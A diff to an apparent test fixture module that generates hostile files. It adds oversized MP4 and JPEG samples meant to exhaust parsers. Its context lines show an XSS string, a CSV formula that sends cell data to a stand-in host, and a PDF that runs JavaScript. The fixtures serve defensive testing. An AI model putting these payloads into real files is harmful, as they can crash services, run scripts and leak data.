@@ -69,6 +69,17 @@ def text_bomb() -> bytes:
     return png(1, 1, zlib.compress(bytes(5)), chunks=chunk(b"zTXt", remark))
 
 
+def boxes() -> bytes:
+    """A video of 200,000 empty boxes."""
+    return samples.box(b"ftyp", b"isom") + samples.box(b"moov", samples.box(b"trak") * 200_000)
+
+
+def markers() -> bytes:
+    """A photo with 200,000 remarks."""
+    photo = samples.picture("JPEG")
+    return photo[:2] + b"\xff\xfe\x00\x03a" * 200_000 + photo[2:]
+
+
 @cache
 def frames() -> bytes:
     """A WebP with many pictures in one file."""
@@ -96,6 +107,8 @@ HOSTILE: dict[str, tuple[str, bytes]] = {
     "page in UTF-16": ("a.txt", "<script>alert(1)</script>".encode("utf-16")),
     "table of formulas": ("a.csv", b'=HYPERLINK("http://contoh.id?x="&A1),@SUM(1),-2+3'),
     "PDF that runs": ("a.pdf", b"%PDF-1.7 /OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
+    "photo of very many remarks": ("a.jpg", markers()),
+    "video of very many boxes": ("a.mp4", boxes()),
     "video without end": ("a.mp4", samples.box(b"ftyp", b"isom") + b"\x00\x00\x00\x01moov" + b"\xff" * 8),
     "video that says it ends before it begins": (
         "a.mp4",
